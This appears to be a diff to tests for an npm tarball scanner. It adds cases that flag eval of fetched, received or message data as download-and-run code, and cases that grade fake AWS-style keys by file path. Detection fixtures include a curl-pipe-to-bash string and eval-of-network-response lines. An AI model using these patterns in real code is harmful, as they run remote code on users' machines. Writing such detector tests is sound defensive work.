@@ -95,6 +95,10 @@ describe('a tarball', () => {
     ['eval of decoded text', "eval(atob('YWxlcnQoMSk='))", 'obfuscated high'],
     ['Function of decoded bytes', "new Function(Buffer.from('61', 'hex').toString())", 'obfuscated high'],
     ['eval of what was fetched', 'eval(await (await fetch(u)).text())', 'download-and-run high'],
+    ['eval of what a client answered', 'eval((await axios.get(u)).data)', 'download-and-run high'],
+    ['eval of an answer kept', 'eval(response.data);', 'download-and-run high'],
+    ['eval of a blob that was sent', 'eval(await event.data.text()); eval(e.data.text())', 'download-and-run high'],
+    ['eval of an answer under way', 'xhr.onload = () => eval(xhr.responseText)', 'download-and-run high'],
     ['a pipe into a shell', "exec('curl -s https://x.test/i | bash')", 'download-and-run medium'],
     [
       'text shown in another order',
@@ -138,6 +142,25 @@ describe('a tarball', () => {
     const found = findings(await npmContents({ 'notes.txt': `key: ${secret}\n` }));
     expect(found.map(({ code }) => code)).toEqual(['credential']);
     expect(JSON.stringify(found)).not.toContain(secret.slice(0, 20));
+  });
+
+  it.each([
+    'self.onmessage = (e) => eval(e.data);',
+    "worker.on('message', (msg) => eval(msg.data.code));",
+    'addEventListener("message", (event) => { eval( event.data[1]) });',
+  ])('evaluates a message of its own, which is no download: %s', async (code) => {
+    expect(codes(await npmContents({ 'worker.js': code }))).toEqual(['dynamic-code none']);
+  });
+
+  it('has a credential of its tests told more quietly, unless there is another, or there are too many to tell', async () => {
+    const secret = (at: number) => fake('AKIA', `Q7ZR2MNB4KLPW9${String.fromCharCode(65 + at)}T`);
+    for (const path of ['test/keys.js', 'lib/__tests__/a.js', 'tests/fixtures/key.txt', 'src/sign.test.ts'])
+      expect(codes(await npmContents({ [path]: secret(0) })), path).toEqual(['credential low']);
+    for (const path of ['lib/latest/keys.js', 'src/attest.js', 'contest/a.js', 'test.js'])
+      expect(codes(await npmContents({ [path]: secret(0) })), path).toEqual(['credential medium']);
+    expect(codes(await npmContents({ 'test/a.js': secret(0), 'lib/b.js': secret(1) }))).toEqual(['credential medium']);
+    const many = Object.fromEntries(Array.from({ length: 25 }, (_, at) => [`test/${at}.js`, secret(at)]));
+    expect(codes(await npmContents({ ...many, 'z.js': secret(25) }))).toEqual(['credential medium']);
   });
 
   it('has no credential found where documentation shows what one looks like', async () => {
